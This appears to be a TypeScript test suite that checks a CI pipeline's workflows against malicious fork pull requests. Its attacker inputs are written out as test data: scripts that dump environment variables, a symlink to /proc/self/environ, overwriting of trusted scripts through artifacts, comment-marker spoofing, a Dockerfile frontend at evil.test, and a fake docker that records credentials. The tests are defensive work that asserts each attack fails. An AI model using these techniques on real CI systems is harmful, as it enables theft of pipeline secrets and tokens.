import { chmodSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect } from "chai";
import { GitHub } from "../pipeline/github.ts";
import { PullRequest } from "../pipeline/pull-request.ts";
import { type JobRun, Runner } from "../pipeline/runner.ts";
import { Clone } from "../support/clone.ts";
import { readWorkflow } from "../support/workflows.ts";

/** What Eve's script does when it runs where it should not: it writes down what it can read. */
const theft = (file: string) => `#!/bin/sh\nenv >"${file}"\n`;

describe("a pull request that attacks the pipeline, by the workflows' own steps", () => {
  let clone: Clone;
  let runner: Runner;
  let github: GitHub;
  let pull: PullRequest;
  let stolen: string;
  let main: string;
  before(() => {
    clone = new Clone();
    clone.lendPackages();
    main = clone.git("branch", "--show-current");
  });
  after(() => clone.remove());
  beforeEach(async () => {
    runner = new Runner(clone);
    github = new GitHub();
    runner.env = { GITHUB_API_URL: await github.start() };
    pull = new PullRequest(clone, "feature/x");
    stolen = join(clone.directory, ".git/stolen");
  });
  afterEach(() => {
    pull.remove();
    runner.remove();
    github.stop();
    clone.git("checkout", "--quiet", "--force", main);
  });

  /** Runs the workflow "plan", whose first job runs `plan` of the pull request in the place of scripts/ci/plan.sh. */
  async function plan(script: string): Promise<JobRun | undefined> {
    const base = { sha: clone.git("rev-parse", "HEAD") };
    const sha = pull.push("scripts/ci/plan.sh", () => `#!/bin/sh\n${script}\n`);
    clone.git("fetch", "--quiet", "origin", "refs/pull/7/head");
    const event = pull.event("opened", { pull_request: { ...pull.shown, base } });
    const runs = await runner.run("plan", { ...event, name: "pull_request", sha });
    expect(runs.plan?.result, runs.plan?.output).to.equal("success");
    return runs.comment;
  }

  it("has a plain text put under it", async () => {
    const comment = await plan("echo Nothing changes. >plan.md");
    expect(comment?.result, comment?.output).to.equal("success");
    expect(github.comments[0]?.body).to.match(/^Nothing changes\.\n/);
  });

  it("cannot have its artifact take the place of the scripts that the trusted job runs", async () => {
    const evil = ["scripts/ci/comment.sh", "scripts/lib/enter.sh"].map(
      (file) =>
        `mkdir -p plan.md/$(dirname ${file}) && printf '%s' '${theft(stolen)}' >plan.md/${file} && chmod +x plan.md/${file}`,
    );
    const comment = await plan(`${evil.join("\n")}\necho Harmless. >plan.md/plan.md`);
    expect(existsSync(stolen), "its script has run beside the token").to.equal(false);
    expect(comment?.result, comment?.output).to.equal("success");
    expect(github.comments[0]?.body).to.match(/^Harmless\.\n/);
  });

  it("cannot have the trusted job read its own variables, or a directory, as the text", async () => {
    for (const made of [
      "ln -s /proc/self/environ plan.md",
      "mkdir -p plan.md/plan.md && touch plan.md/plan.md/x",
    ]) {
      const comment = await plan(`rm -rf plan.md && ${made}`);
      expect(comment?.result, made).to.equal("failure");
      expect(comment?.output).to.match(/is not a regular file/);
    }
    expect(github.comments).to.deep.equal([]);
  });

  it("cannot have its text taken for another comment of the pipeline's", async () => {
    await plan("echo 'x <!-- onebox: preview -->' >plan.md");
    expect(github.comments[0]?.body).not.to.include("<!-- onebox: preview -->");
    expect(github.comments[0]?.body).to.include("<!-- onebox: plan -->");
  });

  /** The pull request of a fork's, in a repository whose cloud is Hetzner's. */
  function fork(): void {
    pull.remove();
    pull = new PullRequest(clone, "feature/x", "eve/onebox");
    github.pull = () => pull.shown;
    github.permissions = { ada: "write", mallory: "read" };
    runner.env.ONEBOX_CONFIG = "test/fixtures/hetzner-previews.config.ts";
  }

  it("cannot start the job that has the key by being closed, when it has no preview", async () => {
    fork();
    pull.push("README.md", (text) => `${text}Hello\n`);
    pull.state = "closed";
    const close = () => runner.run("preview", pull.event("closed"));
    const never = await close();
    expect(never.choose?.output).to.include("this pull request has none");
    expect(never.preview?.result).to.equal("skipped");
    const shown = (login: string, body: string) => ({
      ...{ id: 1, number: 7, user: { login } },
      body: `## Preview\n\n${body}\n<!-- onebox: preview -->`,
    });
    github.comments.push(shown("eve", "http://x"));
    expect((await close()).preview?.result, "by a comment of her own").to.equal("skipped");
    github.comments.splice(0, 1, shown("github-actions[bot]", "It was taken down"));
    expect((await close()).preview?.result, "a second time").to.equal("skipped");
    github.comments.splice(0, 1, shown("github-actions[bot]", "http://x shows it"));
    expect((await close()).preview?.result).to.equal("success");
  });

  it("cannot take down what another pull request shows", async () => {
    runner.env.ONEBOX_CONFIG = "test/fixtures/hetzner-previews.config.ts";
    pull.push("README.md", (text) => `${text}Hello\n`);
    pull.state = "closed";
    github.open = [8];
    const runs = await runner.run("preview", pull.event("closed"));
    expect(runs.choose?.output).to.include("another pull request shows the same branch");
    expect(runs.preview?.result).to.equal("skipped");
    github.open = [];
    expect((await runner.run("preview", pull.event("closed"))).preview?.result).to.equal("success");
  });

  it("is not built for a label when nobody who may write has read that commit", async () => {
    fork();
    runner.env.PATH = `${dockerThatTells()}:${process.env.PATH}`;
    const read = pull.push("README.md", (text) => `${text}Harmless\n`);
    const commit = pull.push("README.md", (text) => `${text}Not harmless\n`);
    const label = () =>
      runner.run("preview", pull.event("labeled", { label: { name: "preview" } }));
    const review = (login: string, commit_id: string, state = "APPROVED") => {
      github.reviews = [{ state, commit_id, user: { login } }];
    };
    for (const attempt of [
      () => review("ada", read),
      () => review("mallory", commit),
      () => review("eve", commit),
      () => review("ada", commit, "CHANGES_REQUESTED"),
    ]) {
      attempt();
      const { choose, build, preview } = await label();
      expect(choose?.output).to.include("nobody who may write here has reviewed");
      expect([build?.result, preview?.result]).to.deep.equal(["skipped", "skipped"]);
    }
    review("ada", commit, "COMMENTED");
    const { build } = await label();
    expect(build?.output).to.include("docker was called");
  });

  it("is built with no login of the job's, and where no right to push is", async () => {
    fork();
    const directory = join(clone.directory, ".git/docker");
    clone.write(
      ".git/docker/config.json",
      JSON.stringify({ auths: { "ghcr.io": { auth: "c2VjcmV0" } } }),
    );
    Object.assign(runner.env, {
      DOCKER_CONFIG: directory,
      PATH: `${dockerThatTells()}:${process.env.PATH}`,
    });
    const commit = pull.push("server/Dockerfile", (text) => `# syntax=evil.test/frontend\n${text}`);
    github.reviews = [{ state: "APPROVED", commit_id: commit, user: { login: "ada" } }];
    const labeled = pull.event("labeled", { label: { name: "preview" } });
    const { build, push, preview } = await runner.run("preview", labeled);
    const told = readFileSync(join(clone.directory, ".git/docker-was-told"), "utf8");
    expect(told).to.match(/^docker was called: build .*Dockerfile/m);
    expect(told).not.to.match(/c2VjcmV0|job-token|REGISTRY_PASSWORD/);
    expect(build?.result, "the stand-in builds nothing").to.equal("failure");
    expect([push?.result, preview?.result]).to.deep.equal(["skipped", "skipped"]);
    expect(readWorkflow("preview").jobs.build?.permissions).to.deep.equal({ contents: "read" });
  });

  /** A directory with a program in Docker's place, which writes down all that a build could get at. */
  function dockerThatTells(): string {
    const file = join(clone.directory, ".git/docker-was-told");
    clone.write(
      ".git/bin/docker",
      `#!/bin/sh\ncase $1 in build) exec >>"${file}"; echo "docker was called: $*"; env; cat "$DOCKER_CONFIG/config.json"; echo docker was called >&2; exit 1 ;; esac\ncase $1 in version) echo amd64 ;; buildx) exit 1 ;; esac\n`,
    );
    chmodSync(join(clone.directory, ".git/bin/docker"), 0o755);
    return join(clone.directory, ".git/bin");
  }
});
